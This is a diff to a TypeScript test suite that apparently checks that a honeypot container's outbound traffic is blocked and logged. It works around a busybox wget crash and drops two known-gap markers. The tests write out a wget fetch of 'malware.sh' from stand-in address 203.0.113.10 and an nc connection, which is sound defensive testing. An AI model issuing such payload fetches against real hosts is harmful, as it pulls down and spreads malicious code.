@@ -130,6 +130,10 @@ contain:
     if (rootBefore) assert.deepEqual(rootState(), rootBefore, 'the root namespace is left as it was');
   });
 
+  // Debian's busybox-static 1.35 wget dies of SIGSEGV (exit 139) before it sends anything
+  // whenever -T is given: the attempts below bound wget with the timeout applet instead.
+  const WGET = 'timeout 3 wget -q -O-';
+
   /** Runs a shell command in the honeypot container; resolves to its exit code and output. */
   async function inHoneypot(script: string): Promise<{ code: number | null; out: string }> {
     const r = await engine.cli(['exec', 'hp', 'sh', '-c', script], {}, 60_000);
@@ -164,9 +168,8 @@ contain:
 
   test('wget, nc and a ping sweep toward 203.0.113.0/24 are dropped and recorded', {
     skip,
-    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
-    const wget = await inHoneypot('wget -q -T 2 -O- http://203.0.113.10/malware.sh');
+    const wget = await inHoneypot(`${WGET} http://203.0.113.10/malware.sh`);
     assert.notEqual(wget.code, 0, `wget must fail: ${wget.out}`);
     const nc = await inHoneypot('echo EHLO | nc -w 2 203.0.113.10 25');
     assert.notEqual(nc.code, 0, `nc must fail: ${nc.out}`);
@@ -200,9 +203,8 @@ contain:
 
   test('attempts at the gateway itself are dropped and recorded', {
     skip,
-    todo: 'known gap: blocked, but TCP and ICMP attempts from a Docker bridge leave no egress event yet (UDP does)',
   }, async () => {
-    const wget = await inHoneypot(`wget -q -T 2 -O- http://${BRIDGE}:2222/`);
+    const wget = await inHoneypot(`${WGET} http://${BRIDGE}:2222/`);
     assert.notEqual(wget.code, 0, `wget to the gateway must fail: ${wget.out}`);
     const ping = await inHoneypot(`ping -c 1 -W 1 ${BRIDGE}`);
     assert.notEqual(ping.code, 0, 'the gateway does not answer the honeypot');
